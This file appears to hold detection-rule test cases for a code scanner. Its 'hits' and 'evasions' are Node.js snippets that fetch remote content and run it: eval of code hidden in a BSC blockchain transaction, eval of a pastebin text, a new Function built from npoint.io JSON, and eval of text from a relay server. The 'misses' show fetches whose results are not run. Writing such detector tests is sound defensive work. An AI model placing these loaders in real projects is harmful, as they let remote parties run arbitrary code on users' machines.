import type { Examples } from "@doorward/core";

/** Programs that run what a chain or a store says, and programs that read it. */
export const examples: Examples = {
  hits: [
    {
      name: "a transaction of a chain that is evaluated",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const body = JSON.stringify({ method: "eth_getTransactionByHash", params: ["0xab"] });\nfetch("https://bsc-dataseed.binance.org", { method: "POST", body })\n  .then((answer) => answer.json())\n  .then(({ result }) => eval(Buffer.from(result.input.slice(2), "hex").toString()));\n',
      },
    },
    {
      name: "a pasted text that is evaluated",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'fetch("https://pastebin.com/raw/abcdefgh").then((answer) => answer.text()).then((text) => eval(text));\n',
      },
    },
    {
      name: "a store of JSON that becomes a function",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'const axios = require("axios");\n\naxios.get("https://api.npoint.io/0123456789").then(({ data }) => new Function("require", data.content)(require));\n',
      },
    },
  ],
  misses: [
    {
      name: "a balance that is shown",
      why: "Nothing that came is run.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js":
          'fetch("https://bsc-dataseed.binance.org", { method: "POST", body: "{}" }).then((answer) => answer.json()).then(console.log);\n',
      },
    },
    {
      name: "a message to a chat",
      why: "Nothing comes back that is run.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'fetch("https://hooks.slack.com/services/a", { method: "POST", body: "done" });\n',
      },
    },
    {
      name: "a plug-in of the maker's own server",
      why: "The server has a name and an owner.",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'fetch("https://plugins.example/a.js").then((answer) => answer.json()).then(console.log);\n',
      },
    },
  ],
  evasions: [
    {
      name: "an own server that passes the text on",
      caughtBy: "code/fetched-code-runs",
      files: {
        "package.json":
          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
        "a.js": 'fetch("https://relay.example/next").then((answer) => answer.text()).then((text) => eval(text));\n',
      },
    },
  ],
};
